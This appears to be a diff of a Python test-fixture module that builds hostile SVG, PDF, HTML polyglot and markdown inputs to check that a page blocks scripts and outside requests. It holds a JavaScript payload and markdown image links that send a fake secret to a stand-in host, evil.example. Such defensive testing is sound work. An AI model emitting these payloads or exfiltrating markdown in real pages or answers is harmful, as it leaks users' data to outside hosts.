@@ -1,4 +1,4 @@
-"""Files and words that mean mischief to a browser: each tries to run a script, to open another host, or to leave the page."""
+"""Hostile files and texts: each tries to run a script, to reach another host, or to leave the page."""
 
 from typing import NamedTuple
 
@@ -6,9 +6,9 @@ from showandtell import File, tool
 from support import fixtures
 from support.polyglots import make_polyglots
 
-#: Whatever reaches it was stolen.
+#: No request may reach this host.
 EVIL = "http://evil.example"
-#: What a script does that isn't ours; the page's tests hear each of these.
+#: A script that does everything that the page's tests detect.
 CODE = (
     "for(const w of[self,parent,top,opener])try{w.__pwned()}catch{};console.error('a script ran');"
     f"new Image().src='{EVIL}/ran';try{{fetch('{EVIL}/ran')}}catch{{}};try{{alert('pwned')}}catch{{}}"
@@ -24,8 +24,8 @@ XMLNS = 'xmlns="http://www.w3.org/1999/xhtml"'
 SVGNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
 
 
-class Hostile(NamedTuple):
-    """A file that is handed in: its bytes, and the name and media type that are claimed for it."""
+class HostileFile(NamedTuple):
+    """A file's bytes with the name and media type that its sender claims."""
 
     name: str
     media_type: str
@@ -37,7 +37,7 @@ def svg(inner, attributes=""):
 
 
 def pdf(action):
-    """A PDF whose catalog does something when it is opened."""
+    """A PDF whose catalog has an action."""
     return fixtures.pdf("hello").replace(b"/Type /Catalog", b"/Type /Catalog " + action.encode(), 1)
 
 
@@ -106,36 +106,37 @@ PDFS = {
 }
 
 
-def make_hostile():
-    """All of them."""
-    files = [Hostile(f"{name}.svg", "image/svg+xml", text.encode()) for name, text in SVGS.items()]
-    files += [Hostile(f"{name}.png", "image/png", text.encode()) for name, text in [*SVGS.items()][:4]]
-    files += [Hostile(name, media_type, text.encode()) for name, (media_type, text) in PAGES.items()]
-    files += [Hostile(f"{name}.pdf", "application/pdf", data) for name, data in PDFS.items()]
+def make_files():
+    files = [HostileFile(f"{name}.svg", "image/svg+xml", text.encode()) for name, text in SVGS.items()]
+    files += [HostileFile(f"{name}.png", "image/png", text.encode()) for name, text in [*SVGS.items()][:4]]
+    files += [HostileFile(name, media_type, text.encode()) for name, (media_type, text) in PAGES.items()]
+    files += [HostileFile(f"{name}.pdf", "application/pdf", data) for name, data in PDFS.items()]
     polyglots = make_polyglots()
-    files += [Hostile(f"{polyglot.name}.html", "text/html", polyglot.data) for polyglot in polyglots]
+    files += [HostileFile(f"{polyglot.name}.html", "text/html", polyglot.data) for polyglot in polyglots]
     return files + [
-        Hostile(polyglot.name, polyglot.proves, polyglot.data) for polyglot in polyglots[::4] if "/" in polyglot.proves
+        HostileFile(polyglot.name, polyglot.proves, polyglot.data)
+        for polyglot in polyglots[::4]
+        if "/" in polyglot.proves
     ]
 
 
-FILES = make_hostile()
+FILES = make_files()
 
 
 @tool
-def bring_files(first: int, step: int, count: int) -> list[File]:
-    """Bring files that mean mischief, from a first one in steps."""
+def send_files(first: int, step: int, count: int) -> list[File]:
+    """Send every `step`-th hostile file from index `first`, at most `count`."""
     chosen = FILES[first::step][:count]
     return [File.from_bytes(item.data, item.media_type, name=item.name) for item in chosen]
 
 
 def url(name):
-    """An address that tells what was stolen, and by which way."""
+    """A URL of the forbidden host that names the way of the attack."""
     return f"{EVIL}/{name}?secret=hunter2"
 
 
-#: Ways to have a reader's browser send something elsewhere, or run something, by the words of an answer.
-WORDS = (
+#: Markdown of an answer that makes a browser send a request or run a script.
+TEXTS = (
     f"![inline]({url('inline')})",
     f"![reference][r1]\n\n[r1]: {url('reference')}",
     f"![collapsed][]\n\n[collapsed]: {url('collapsed')}",
@@ -194,7 +195,7 @@ WORDS = (
 
 
 @tool
-def say_words() -> list[str | File]:
-    """Say words that mean mischief, and bring them as a text."""
-    words = "\n\n".join(WORDS)
-    return [words, File.from_bytes(words.encode(), "text/markdown", name="words.md")]
+def send_texts() -> list[str | File]:
+    """Send the hostile texts, and the same as a file."""
+    text = "\n\n".join(TEXTS)
+    return [text, File.from_bytes(text.encode(), "text/markdown", name="texts.md")]
